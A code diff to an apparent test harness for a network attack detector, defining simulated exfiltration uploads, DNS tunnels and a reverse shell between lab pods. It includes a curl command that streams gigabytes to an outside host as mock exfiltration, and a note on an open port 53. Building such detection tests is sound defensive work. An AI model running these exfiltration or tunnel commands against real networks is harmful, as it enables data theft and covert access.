@@ -16,6 +16,10 @@ SITE = pods.OUTSIDE_WEB[8]
 _PART = 4_000_000  # bytes of one upload; the limit of the detector is 25 of them
 # A handshake that completes proves the scanner's address; without one a scan may be anybody's and is left alone.
 _FOUND = 5
+_IN_ONE = (
+    "head -c 4G /dev/zero | curl -sS -o /dev/null --limit-rate 20M -H Expect: "
+    f"-H 'Content-Length: 4294967296' -T - http://{SITE}:8080/100"
+)
 _TYPED = "while sleep 1.5; do echo id; done"
 
 
@@ -85,10 +89,13 @@ def _upload(stage: Stage, folder: Path, pod: str = "client4", port: int = 8080) 
     _again(stage, pod, f"curl {options} -T {folder / 'part'} http://{SITE}:{port}/100")
 
 
-def upload_in_one(stage: Stage, _folder: Path) -> None:
-    """One connection that goes on for minutes."""
-    stage.begin("client4", ["sh", "-c", f"head -c 4G /dev/zero | curl -sS -o /dev/null --limit-rate 20M -H Expect: "
-                                        f"-H 'Content-Length: 4294967296' -T - http://{SITE}:8080/100"])  # fmt: skip
+def upload_once_it_can(stage: Stage) -> None:
+    """One connection that goes on for minutes, from the moment at which one can be opened."""
+    _again(stage, "client4", f"{_IN_ONE} || sleep 0.02")
+
+
+def _upload_in_one(stage: Stage, _folder: Path) -> None:
+    stage.begin("client4", ["sh", "-c", _IN_ONE])
 
 
 def _resolver(stage: Stage, _folder: Path) -> None:
@@ -126,7 +133,7 @@ ATTACKS = (
     Attack("upload", "exfiltration", "client4", (SITE,), _site, _upload),
     Attack("dns", "dns_tunnel", "client3", (BY_NAME["dns"].ip4,), _resolver, _leak),
     Attack("shell", "reverse_shell", "web", (LISTENER,), _listener, _shell, 100.0, established=True),
-    Attack("long_upload", "exfiltration", "client4", (SITE,), _site, upload_in_one, established=True),
+    Attack("long_upload", "exfiltration", "client4", (SITE,), _site, _upload_in_one, established=True),
     Attack("iodine", "dns_tunnel", "client3", (BY_NAME["dns"].ip4,), _tunnel_end, _tunnel, established=True),
 )
 # By the way that the production template leaves open to everybody: `to: []`, port 53.
